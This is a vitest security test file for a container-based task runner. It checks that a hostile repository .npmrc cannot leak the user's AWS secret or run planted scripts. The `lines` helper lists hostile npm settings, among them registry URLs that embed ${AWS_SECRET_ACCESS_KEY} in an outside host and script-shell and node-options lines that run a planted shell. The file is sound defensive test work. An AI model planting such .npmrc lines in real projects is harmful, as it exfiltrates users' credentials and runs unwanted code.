import { chmod, mkdir, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createContainerProject } from '../support/container-project.ts';
import type { ContainerProject } from '../support/container-project.ts';
import { buildWorkerImage, docker, whySkipped } from '../support/worker-image.ts';

const SECRET = 'made-up-secret-of-the-user';

/** What a repository may write to get at the user's environment and files through npm. */
const lines = (outside: string): string[] => [
  'registry=https://${AWS_SECRET_ACCESS_KEY}.example.org/',
  '@steal:registry=https://example.org/${AWS_SECRET_ACCESS_KEY}/',
  `logs-dir=${outside}/logs`,
  `cache=${outside}/cache`,
  `userconfig=${outside}/userconfig`,
  `globalconfig=${outside}/globalconfig`,
  `script-shell=${outside}/shell`,
  `node-options=--require=${outside}/shell`,
];

describe.skipIf(docker.why !== '')(`a repository whose .npmrc is hostile${whySkipped}`, () => {
  let project: ContainerProject;
  beforeAll(buildWorkerImage);
  afterEach(async () => {
    expect(project.leftovers()).toEqual([]);
    await project.remove();
  });

  it("gets nothing of the user's environment into a container or the allowlist, and npm writes nothing for it", async () => {
    project = await createContainerProject({
      env: { AWS_SECRET_ACCESS_KEY: SECRET },
      container: 'network: allowlist\nallow: [npm]',
    });
    const { outside } = project;
    await writeFile(path.join(outside, 'userconfig'), 'registry=https://planted.example.org/\n');
    await writeFile(path.join(outside, 'globalconfig'), '@planted:registry=https://planted.example.org/\n');
    await writeFile(path.join(outside, 'shell'), `#!/bin/sh\necho ran > ${outside}/ran\n`);
    await chmod(path.join(outside, 'shell'), 0o755);
    await project.write('.npmrc', lines(outside).join('\n'));
    await project.write('package.json', '{"name":"x","version":"1.0.0"}\n');
    project.commit('hostile');
    const before = await readdir(outside);
    await project.graph('login', [{ id: 'A', create: ['env.txt'], run: 'env > env.txt' }]);

    const { exit, stdout, stderr } = await project.cli('kurukshetra', '--workers', '1');

    expect(exit, stderr).toBe(0);
    const inside = project.git('show', 'mahabharatha/login/integration:env.txt');
    expect(inside).toMatch(/^npm_config_registry=https?:/m);
    for (const text of [inside, stdout, stderr]) expect(text).not.toMatch(/made-up-secret|planted/);
    expect(JSON.stringify(await project.events())).not.toContain(SECRET);
    for (const line of ['line 1 ("registry")', 'line 2 ("@steal:registry")'])
      expect(stderr).toContain(`note: The .npmrc of the repository: ${line} is not followed`);
    expect(await readdir(outside)).toEqual(before);
  });

  it('is not read by npm, which runs in a folder of its own with few variables', async () => {
    project = await createContainerProject();
    const { outside } = project;
    await mkdir(path.join(outside, 'bin'));
    await project.write('.npmrc', `logs-dir=${outside}/logs\nregistry=https://planted.example.org/\n`);
    const npm = path.join(outside, 'bin', 'npm');
    await writeFile(npm, `#!/bin/sh\n{ pwd; env; } > ${outside}/asked\necho 'registry = "https://a.example.org/"'\n`);
    await chmod(npm, 0o755);
    Object.assign(project.env, { AWS_SECRET_ACCESS_KEY: SECRET, PATH: `${outside}/bin:${project.env['PATH']}` });
    await project.write('.mahabharatha/config.yaml', 'workers: { mode: container, container: { allow: [npm] } }\n');
    await project.graph('login', [{ id: 'A', create: ['a.txt'], run: 'echo a > a.txt' }]);

    const { exit, stderr } = await project.cli('kurukshetra', '--dry-run');

    expect(exit, stderr).toBe(0);
    const asked = await project.at(outside).read('asked');
    expect(asked).toMatch(/^\/.*mahabharatha-npm-/);
    expect(asked).not.toContain(project.folder);
    expect(asked).not.toContain(SECRET);
  });
});
